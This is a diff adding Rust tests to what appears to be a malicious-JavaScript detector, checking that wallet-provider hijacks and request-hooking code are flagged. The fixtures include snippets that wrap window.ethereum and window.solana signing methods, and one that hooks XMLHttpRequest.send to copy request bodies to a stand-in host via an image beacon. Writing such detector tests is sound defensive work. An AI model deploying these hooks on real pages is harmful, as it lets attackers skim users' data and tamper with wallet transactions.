@@ -1452,3 +1452,41 @@ proc.exec('id');
     assert!(f.iter().any(|(k, _, _)| *k == K::ProcessSpawn), "{f:?}");
     assert!(!f.iter().any(|(k, _, _)| *k == K::DynamicImport), "{f:?}");
 }
+
+#[test]
+fn wallet_provider_handed_to_a_wrapper_function() {
+    // The provider is the parameter of a function called where it is written.
+    let src = "window.ethereum && function (prov) { var orig = prov.request.bind(prov); prov.request = function (a) { return orig(a); }; }(window.ethereum);";
+    assert!(has(src, K::BrowserHijack), "{:?}", facts(src));
+    let arrow = "window.solana && ((s) => { const f = s.signTransaction.bind(s); s.signTransaction = async (t) => f(t); })(window.solana);";
+    assert!(has(arrow, K::BrowserHijack), "{:?}", facts(arrow));
+    // A wrapper handed something else assigns its own object's methods.
+    let own = "(function (api) { api.request = function (a) { return a; }; })(window.myClient);";
+    assert!(!has(own, K::BrowserHijack), "{:?}", facts(own));
+}
+
+#[test]
+fn hooked_request_bodies_copied_out() {
+    let src = r#"
+!function () {
+  var send = XMLHttpRequest.prototype.send;
+  XMLHttpRequest.prototype.send = function (payload) {
+    try { if (payload) (new Image).src = "https://stats.example.invalid/i?q=" + encodeURIComponent(String(payload)); } catch (e) {}
+    return send.apply(this, arguments);
+  };
+}();
+"#;
+    let f = facts(src);
+    assert!(
+        f.iter()
+            .any(|(k, _, d)| *k == K::BrowserHijack && d.contains("copies what the page sends")),
+        "{f:?}"
+    );
+    // A wrapper that counts requests and reports its own numbers with a beacon.
+    let counter = r#"
+var n = 0, orig = window.fetch;
+window.fetch = function (input, init) { n++; return orig(input, init); };
+addEventListener('pagehide', function () { navigator.sendBeacon('/metrics', String(n)); });
+"#;
+    assert!(!has(counter, K::BrowserHijack), "{:?}", facts(counter));
+}
